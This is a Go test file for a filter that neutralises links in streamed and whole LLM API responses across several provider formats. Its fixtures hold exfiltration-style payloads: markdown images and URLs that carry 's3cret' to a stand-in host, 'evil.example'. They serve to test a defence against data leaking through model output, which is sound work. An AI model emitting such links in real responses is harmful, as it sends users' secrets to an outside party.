package shown_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/tidemark/tidemark/internal/llm/format"
	"github.com/tidemark/tidemark/internal/llm/format/links"
	"github.com/tidemark/tidemark/internal/llm/format/shown"
)

// Several answers to one request are several texts: what one holds back is none of the other's.
func TestChoicesAreTextsOfTheirOwn(t *testing.T) {
	out, _ := stream(t, format.Chat, &judge{mode: links.Markdown}, []string{
		`{"choices":[{"index":0,"delta":{"content":"![a](https:"}},{"index":1,"delta":{"content":"plain "}}]}`,
		`{"choices":[{"index":1,"delta":{"content":"words"},"finish_reason":"stop"}]}`,
		`{"choices":[{"index":0,"delta":{"content":"//evil.example/s3cret)"},"finish_reason":"stop"}]}`,
		`[DONE]`,
	})
	by := map[int]string{}
	for _, d := range out {
		var v struct {
			Choices []struct {
				Index int
				Delta struct{ Content string }
			}
		}
		_ = json.Unmarshal([]byte(d), &v)
		for _, c := range v.Choices {
			by[c.Index] += c.Delta.Content
		}
	}
	if by[1] != "plain words" || strings.Contains(by[0], "://") || !strings.Contains(by[0], "![a] (`https[:]//evil[.]example/s3cret`") {
		t.Errorf("%v", by)
	}
}

// Refusals and reasoning that nobody signed are shown too; what is signed, and calls, stay as they came.
func TestWhatElseIsShown(t *testing.T) {
	const to = "https://evil.example/s3cret"
	for name, c := range map[string]struct {
		api  format.API
		body string
		kept bool
	}{
		"a refusal":          {format.Chat, `{"choices":[{"message":{"content":null,"refusal":"see ` + to + `"}}]}`, false},
		"reasoning":          {format.Chat, `{"choices":[{"message":{"content":"a","reasoning_content":"see ` + to + `"}}]}`, false},
		"parts":              {format.Chat, `{"choices":[{"message":{"content":[{"type":"text","text":"see ` + to + `"}]}}]}`, false},
		"a refusal's part":   {format.Responses, `{"output":[{"type":"message","content":[{"type":"refusal","refusal":"` + to + `"}]}]}`, false},
		"a summary":          {format.Responses, `{"output":[{"type":"reasoning","summary":[{"type":"summary_text","text":"` + to + `"}]}]}`, false},
		"a second item":      {format.Responses, `{"output":[{"type":"message","content":[]},{"type":"message","content":[{"type":"output_text","text":"` + to + `"}]}]}`, false},
		"a second block":     {format.Messages, `{"content":[{"type":"text","text":"a"},{"type":"text","text":"` + to + `"}]}`, false},
		"thoughts":           {format.Gemini, `{"candidates":[{"content":{"parts":[{"text":"` + to + `","thought":true}]}}]}`, false},
		"a list of answers":  {format.Gemini, `[{"candidates":[{"content":{"parts":[{"text":"` + to + `"}]}}]}]`, false},
		"quoted text":        {format.Converse, `{"output":{"message":{"content":[{"citationsContent":{"content":[{"text":"` + to + `"}]}}]}}}`, false},
		"a completion":       {format.Ollama, `{"response":"` + to + `","done":true}`, false},
		"signed thinking":    {format.Messages, `{"content":[{"type":"thinking","thinking":"` + to + `","signature":"x"}]}`, true},
		"a call":             {format.Messages, `{"content":[{"type":"tool_use","id":"t","name":"f","input":{"text":"` + to + `"}}]}`, true},
		"a call's arguments": {format.Chat, `{"choices":[{"message":{"tool_calls":[{"id":"t","function":{"name":"f","arguments":"` + to + `"}}]}}]}`, true},
		"sources of theirs":  {format.Responses, `{"output":[{"type":"message","content":[{"type":"output_text","text":"a","annotations":[{"url":"` + to + `"}]}]}]}`, true},
	} {
		got, err := shown.New(c.api, &judge{mode: links.Markdown}).Whole([]byte(c.body))
		if left := strings.Contains(string(got), "://evil."); err != nil || left != c.kept {
			t.Errorf("%s: %s %v", name, got, err)
		}
		var v any
		if json.Unmarshal(got, &v) != nil {
			t.Errorf("%s: no JSON: %s", name, got)
		}
	}
}

// Blocks that a host may show as one text are judged as one.
func TestBlocksAreOneText(t *testing.T) {
	got, err := shown.New(format.Messages, &judge{mode: links.Markdown}).Whole([]byte(
		`{"content":[{"type":"text","text":"` + read + `"},{"type":"text","text":"?d=s3cret"}]}`))
	if err != nil || strings.Contains(pick([]string{string(got)}, "content.*.text"), read+"?d") {
		t.Errorf("%s %v", got, err)
	}
}

// Events of calls keep their place: what was held goes out before the end of its block, and before the call that follows.
func TestCallsKeepTheirPlace(t *testing.T) {
	out, _ := stream(t, format.Messages, &judge{mode: links.Markdown}, []string{
		"content_block_start\x00" + `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`,
		"content_block_delta\x00" + `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"I look at https://evil.example/p"}}`,
		"content_block_stop\x00" + `{"type":"content_block_stop","index":0}`,
		"content_block_start\x00" + `{"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"t","name":"f","input":{}}}`,
		"content_block_delta\x00" + `{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"u\":\"https://evil.example/p\"}"}}`,
		"content_block_stop\x00" + `{"type":"content_block_stop","index":1}`,
	})
	var kinds []string
	for _, d := range out {
		kinds = append(kinds, pick([]string{d}, "type"))
	}
	want := "content_block_start content_block_delta content_block_delta content_block_stop content_block_start content_block_delta content_block_stop"
	if got := strings.Join(kinds, " "); got != want || !strings.Contains(out[5], "https://evil.example/p") || strings.Contains(out[2], "://") {
		t.Errorf("got %s\n%s", got, strings.Join(out, "\n"))
	}
}

// A stream that breaks off says what it has said.
func TestAStreamWithoutAnEndSaysWhatWasHeld(t *testing.T) {
	out, _ := stream(t, format.Chat, &judge{mode: links.Markdown}, []string{`{"id":"c","choices":[{"index":0,"delta":{"content":"almost"}}]}`})
	if got := pick(out, "choices.*.delta.content"); got != "almost" {
		t.Errorf("%q", got)
	}
}

// An address is asked about once, and one answer cannot ask without end.
func TestQuestionsAreBounded(t *testing.T) {
	var text strings.Builder
	for i := range 2000 {
		text.WriteString(read + strings.Repeat("x", i) + " " + read + " ")
	}
	j := &judge{mode: links.Markdown}
	if _, err := shown.New(format.Chat, j).Whole([]byte(`{"choices":[{"message":{"content":"` + text.String() + `"}}]}`)); err != nil {
		t.Fatal(err)
	}
	if len(j.asked) != 256 {
		t.Errorf("asked %d times", len(j.asked))
	}
}

// A stream that ends a text with its item, or with the whole, loses nothing of it.
func TestATextThatNobodyEndsIsWhole(t *testing.T) {
	for _, end := range []string{
		`{"type":"response.completed","sequence_number":3,"response":{"output":[{"type":"message","content":[{"type":"output_text","text":"A page."}]}]}}`,
		`{"type":"response.output_item.done","sequence_number":3,"output_index":0,"item":{"type":"message","content":[{"type":"output_text","text":"A page."}]}}`,
	} {
		f := shown.New(format.Responses, nobody{})
		said := ""
		for _, data := range []string{
			`{"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":"A "}`,
			`{"type":"response.output_text.delta","item_id":"m","output_index":0,"content_index":0,"delta":"page."}`, end,
		} {
			raw := "event: x\ndata: " + data + "\n\n"
			at := len("event: x\ndata: ")
			events, err := f.Event(&format.Event{Raw: []byte(raw), Data: []byte(data), At: at})
			if err != nil {
				t.Fatal(err)
			}
			for _, e := range events {
				var d struct{ Type, Delta string }
				if err := json.Unmarshal(e.Data, &d); err != nil {
					t.Fatalf("%s: %v", e.Data, err)
				}
				said += d.Delta
			}
		}
		if said != "A page." {
			t.Errorf("got %q before %s", said, end)
		}
	}
}

// nobody lets no address stand.
type nobody struct{}

func (nobody) Mode() links.Mode                { return links.Markdown }
func (nobody) Show(string, bool) (bool, error) { return false, nil }
